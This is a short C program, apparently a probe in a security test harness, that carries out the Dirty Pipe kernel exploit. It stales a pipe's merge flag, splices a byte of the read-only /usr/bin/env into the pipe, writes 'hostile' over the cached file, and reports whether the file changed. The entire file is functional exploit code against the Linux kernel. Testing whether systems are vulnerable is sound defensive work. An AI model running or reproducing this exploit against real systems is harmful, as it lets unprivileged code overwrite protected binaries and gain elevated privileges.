#include "hostile.h"

/* The way of Dirty Pipe: a page of a file in a pipe whose buffer says that it may be merged. */
int main(void) {
    const char *path = "/usr/bin/env";
    char before[16], after[16], block[4096];
    int file = open(path, O_RDONLY), ends[2];
    pread(file, before, sizeof before, 1);
    pipe(ends);
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int left = size; left > 0; left -= sizeof block) write(ends[1], block, sizeof block);
    for (int left = size; left > 0; left -= sizeof block) read(ends[0], block, sizeof block);
    loff_t offset = 0;
    if (splice(file, &offset, ends[1], NULL, 1, 0) == 1) write(ends[1], "hostile", 7);
    pread(file, after, sizeof after, 1);
    if (memcmp(before, after, sizeof before)) achieved("changed %s", path);
    return refused();
}
